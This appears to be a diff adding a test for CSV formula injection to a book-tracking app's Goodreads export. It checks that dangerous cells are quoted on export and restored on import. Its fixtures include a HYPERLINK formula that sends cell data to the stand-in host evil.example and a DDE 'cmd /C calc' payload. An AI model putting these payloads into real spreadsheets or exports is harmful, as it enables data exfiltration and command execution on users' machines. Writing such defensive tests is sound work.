@@ -201,3 +201,76 @@ describe('exports', () => {
     expect(await librarySummary(fresh)).toEqual(await librarySummary(token));
   });
 });
+
+describe('a cell a spreadsheet would run (CSV injection)', () => {
+  /** Text that starts with each character OWASP lists (= + - @ tab, carriage return). */
+  const TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
+  const AUTHOR = '@SUM(1+1) Writer';
+  const REVIEW = "-2+3 cmd|' /C calc'!A0";
+  const SHELF = '+shelf';
+
+  it('comes back as text in every reader’s export, ISBN cells still `="…"`, and imports as typed', async () => {
+    // Any reader may add a book; another reader puts it on their list, reviews it, shelves it.
+    const adder = (await signUp(server)).token;
+    const added = await server.request<{ id: string }>('/api/books', {
+      token: adder,
+      body: { title: TITLE, authors: [AUTHOR], isbn: '9780306406157', language: 'en' },
+    });
+    expect(added.status).toBe(201);
+    const victim = (await signUp(server)).token;
+    const bookId = added.body.id;
+    expect(
+      (await server.request('/api/reading-list', { token: victim, body: { bookId, status: 'wantToRead' } }))
+        .status,
+    ).toBe(201);
+    expect(
+      (
+        await server.request(`/api/books/${bookId}/reviews`, {
+          token: victim,
+          body: { rating: 4, comment: REVIEW, visibility: 'private' },
+        })
+      ).status,
+    ).toBe(201);
+    const shelf = await server.request<{ id: string }>('/api/shelves', {
+      token: victim,
+      body: { name: SHELF },
+    });
+    expect(shelf.status).toBe(201);
+    expect(
+      (
+        await server.request(`/api/shelves/${shelf.body.id}/books/${bookId}`, {
+          method: 'PUT',
+          token: victim,
+        })
+      ).status,
+    ).toBe(204);
+
+    const csv = await download('/api/exports/goodreads.csv', victim);
+    expect(csv.status).toBe(200);
+    const cells = (parse(csv.text) as string[][]).flat();
+    const live = cells.filter((value) => /^[=+\-@\t\r]/.test(value));
+    // The only cells a spreadsheet evaluates are Goodreads' ISBN cells, digits only.
+    expect(live.filter((value) => !/^="[0-9X]*"$/.test(value))).toEqual([]);
+    const [row] = parse(csv.text, { columns: true }) as Array<Record<string, string>>;
+    expect(row).toMatchObject({
+      Title: `'${TITLE}`,
+      Author: `'${AUTHOR}`,
+      'My Review': `'${REVIEW}`,
+      ISBN13: '="9780306406157"',
+      ISBN: '=""',
+    });
+    expect(row!.Bookshelves).toBe(`to-read, ${SHELF}`);
+
+    // Taken back into Nebab, the quote comes off: the same book, review and shelf as typed.
+    const again = (await signUp(server)).token;
+    const done = await importFile(again, Buffer.from(csv.text, 'utf8'));
+    expect(done).toMatchObject({ status: 'done', matched: 1, created: 0 });
+    const shelves = (await server.request<ShelvesResponse>('/api/shelves', { token: again })).body.items;
+    expect(shelves.map((item) => item.name)).toEqual([SHELF]);
+    const reviews = await selectRows<{ comment: string }>(
+      server.db,
+      sql`SELECT comment FROM reviews WHERE book_id = ${bookId} ORDER BY created_at`,
+    );
+    expect(reviews.map((review) => review.comment)).toEqual([REVIEW, REVIEW]);
+  }, 60_000);
+});
